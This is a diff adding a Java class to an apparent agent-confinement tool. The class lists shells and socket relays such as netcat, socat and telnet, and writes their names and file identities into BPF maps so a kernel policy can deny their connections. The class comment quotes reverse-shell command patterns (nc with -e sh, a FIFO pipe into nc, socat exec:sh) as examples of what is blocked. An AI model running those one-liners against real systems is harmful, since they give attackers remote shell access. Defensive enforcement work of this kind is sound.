@@ -1,0 +1,95 @@
+package io.agentguard.enforce;
+
+import io.agentguard.abi.KernelAbi.FileId;
+import io.agentguard.bpf.BpfMap;
+
+import java.lang.foreign.Arena;
+import java.lang.foreign.MemorySegment;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+
+import static io.agentguard.abi.KernelAbi.AG_COMM_LEN;
+import static java.lang.foreign.ValueLayout.JAVA_BYTE;
+import static java.lang.foreign.ValueLayout.JAVA_LONG;
+
+/**
+ * The programs {@code egress.shells: deny} confines (connect.bpf.c shell_verdict): shells,
+ * which connect only for {@code /dev/tcp|udp} redirections, and socket relays (netcat,
+ * socat, telnet), which connect only for what they relay: {@code nc H P -e sh},
+ * {@code sh -i </tmp/f | nc H P >/tmp/f}, {@code socat exec:sh tcp:H:P}.
+ *
+ * <p>By comm ({@code ag_shell_names}) and by identity ({@code ag_shell_exes}: each name
+ * resolved on the standard PATH, symlinks followed, so {@code /bin/sh -> dash}, hard links and
+ * {@code nc -> nc.openbsd} are one file; a script run as {@code ./job} is its interpreter).
+ * busybox is a name only: by identity it would also be its wget and every other applet.
+ * A renamed copy of a shell has neither: dup2/exec/fork on a socket (shell.bpf.c,
+ * exec.deny_socket_shell) is what stops it.
+ */
+public final class ShellPrograms {
+    static final List<String> SHELLS = List.of("sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "busybox");
+    static final List<String> RELAYS = List.of("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet");
+    /** Names matched by comm only: multi-call binaries whose other applets are not shells. */
+    static final List<String> NAME_ONLY = List.of("busybox");
+    static final List<Path> PATH = List.of(Path.of("/usr/local/sbin"), Path.of("/usr/local/bin"), Path.of("/usr/sbin"),
+            Path.of("/usr/bin"), Path.of("/sbin"), Path.of("/bin"));
+
+    private ShellPrograms() {
+    }
+
+    /** Every name the kernel matches by comm. */
+    public static List<String> names() {
+        List<String> all = new ArrayList<>(SHELLS);
+        all.addAll(RELAYS);
+        return all;
+    }
+
+    /** The files those names are on this host now (each once). */
+    public static List<FileIdentity> find() {
+        List<FileIdentity> found = new ArrayList<>();
+        for (String name : names()) {
+            if (NAME_ONLY.contains(name)) {
+                continue;
+            }
+            for (Path dir : PATH) {
+                Path p = dir.resolve(name);
+                FileIdentity id = Files.isRegularFile(p) ? FileIdentity.of(p) : null;
+                if (id != null && found.stream().noneMatch(f -> f.sameFile(id.dev(), id.ino()))) {
+                    found.add(id);
+                }
+            }
+        }
+        return found;
+    }
+
+    /** Writes the names (comm keys, NUL padded) and the identities; stale identities are removed. */
+    public static void write(BpfMap names, BpfMap exes, List<FileIdentity> ids) {
+        try (Arena arena = Arena.ofConfined()) {
+            MemorySegment one = arena.allocate(1);
+            one.set(JAVA_BYTE, 0, (byte) 1);
+            for (String name : names()) {
+                MemorySegment key = arena.allocate(AG_COMM_LEN);
+                byte[] b = name.getBytes(StandardCharsets.UTF_8);
+                MemorySegment.copy(b, 0, key, JAVA_BYTE, 0, Math.min(b.length, AG_COMM_LEN - 1));
+                names.update(key, one);
+            }
+            List<MemorySegment> stale = new ArrayList<>();
+            exes.forEachKey(FileId.SIZEOF, k -> stale.add(arena.allocate(FileId.SIZEOF, 8).copyFrom(k)));
+            List<MemorySegment> keys = new ArrayList<>();
+            for (FileIdentity id : ids) {
+                MemorySegment key = arena.allocate(FileId.SIZEOF, 8);
+                key.set(JAVA_LONG, FileId.DEV, id.dev());
+                key.set(JAVA_LONG, FileId.INO, id.ino());
+                exes.update(key, one);
+                keys.add(key);
+            }
+            for (MemorySegment s : stale) {
+                if (keys.stream().noneMatch(k -> k.mismatch(s) < 0)) {
+                    exes.delete(s);
+                }
+            }
+        }
+    }
+}
